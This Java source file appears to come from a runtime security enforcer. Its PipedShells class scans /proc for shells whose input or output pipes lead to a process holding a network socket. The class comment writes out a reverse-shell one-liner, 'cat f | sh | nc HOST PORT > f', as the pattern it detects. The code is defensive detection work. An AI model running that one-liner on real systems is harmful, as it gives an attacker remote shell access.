package dev.bulwark.enforcer.process;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;

/**
 * Finds reverse shells built from pipes ({@code cat f | sh | nc HOST PORT > f}): a shell whose standard input or
 * output is a pipe whose other end a process of the same pid namespace holds together with a network socket. The
 * processes of a pipeline start in any order and connect after they start, so each shell is looked at a few times
 * during its first seconds, on a thread of its own.
 */
final class PipedShells implements AutoCloseable {

    /** When a shell is looked at, after it started. */
    private static final long[] AFTER_MILLIS = {100, 500, 2_000};

    /** Told of a shell found piped to a socket, with the peer's name. */
    @FunctionalInterface
    interface Found {
        void found(ProcessInfo shell, Workload w, boolean stop, String peer);
    }

    private static final List<String> NET_TABLES = List.of("tcp", "tcp6", "udp", "udp6");

    private final Path proc;
    private final Found found;
    private final ScheduledExecutorService timer = Executors.newSingleThreadScheduledExecutor(r -> {
        Thread t = new Thread(r, "enforcer-piped-shells");
        t.setDaemon(true);
        return t;
    });

    PipedShells(Path proc, Found found) {
        this.proc = proc;
        this.found = found;
    }

    /** Looks at this shell a few times while it runs; reports it once. */
    void watch(ProcessInfo shell, Workload w, boolean stop) {
        Runnable[] check = new Runnable[1];
        int[] round = {0};
        check[0] = () -> {
            if (!sameProcess(shell)) {
                return;
            }
            Optional<String> peer = socketPeer(shell.pid());
            if (peer.isPresent()) {
                found.found(shell, w, stop, peer.get());
            } else if (++round[0] < AFTER_MILLIS.length) {
                timer.schedule(check[0], AFTER_MILLIS[round[0]] - AFTER_MILLIS[round[0] - 1], TimeUnit.MILLISECONDS);
            }
        };
        timer.schedule(check[0], AFTER_MILLIS[0], TimeUnit.MILLISECONDS);
    }

    private boolean sameProcess(ProcessInfo shell) {
        try {
            return ProcessInfo.startTime(proc, shell.pid()) == shell.startTime();
        } catch (IOException | RuntimeException gone) {
            return false;
        }
    }

    /** The name of a process holding the other end of the shell's input or output pipe and a socket. */
    private Optional<String> socketPeer(int pid) {
        Path dir = proc.resolve(Integer.toString(pid));
        List<String> pipes = new ArrayList<>();
        for (String fd : List.of("0", "1")) {
            link(dir.resolve("fd").resolve(fd)).filter(l -> l.startsWith("pipe:")).ifPresent(pipes::add);
        }
        Optional<String> namespace = link(dir.resolve("ns/pid"));
        if (pipes.isEmpty() || namespace.isEmpty()) {
            return Optional.empty();
        }
        try (DirectoryStream<Path> all = Files.newDirectoryStream(proc, p -> p.getFileName().toString()
                .chars().allMatch(Character::isDigit))) {
            for (Path other : all) {
                if (!other.equals(dir) && link(other.resolve("ns/pid")).equals(namespace)
                        && holdsPipeAndSocket(other, pipes)) {
                    return Optional.of(Files.readString(other.resolve("comm")).strip());
                }
            }
        } catch (IOException | RuntimeException e) {
            // /proc changed under the walk: the next round looks again
        }
        return Optional.empty();
    }

    private static boolean holdsPipeAndSocket(Path process, List<String> pipes) {
        boolean pipe = false;
        List<String> sockets = new ArrayList<>();
        try (DirectoryStream<Path> fds = Files.newDirectoryStream(process.resolve("fd"))) {
            for (Path fd : fds) {
                String target = link(fd).orElse("");
                pipe |= pipes.contains(target);
                if (target.startsWith("socket:[")) {
                    sockets.add(target.substring(8, target.length() - 1));
                }
            }
        } catch (IOException | RuntimeException e) {
            return false;
        }
        return pipe && !sockets.isEmpty() && networkSocket(process, sockets);
    }

    /** Whether one of these socket inodes is a TCP or UDP socket (not a local one, as a logger holds). */
    private static boolean networkSocket(Path process, List<String> inodes) {
        for (String table : NET_TABLES) {
            try (var lines = Files.lines(process.resolve("net").resolve(table))) {
                if (lines.skip(1).map(l -> l.strip().split("\\s+")).anyMatch(f -> f.length > 9
                        && inodes.contains(f[9]))) {
                    return true;
                }
            } catch (IOException | RuntimeException e) {
                // no such table in its network namespace
            }
        }
        return false;
    }

    private static Optional<String> link(Path path) {
        try {
            return Optional.of(Files.readSymbolicLink(path).toString());
        } catch (IOException | RuntimeException e) {
            return Optional.empty();
        }
    }

    @Override
    public void close() {
        timer.shutdownNow();
    }
}
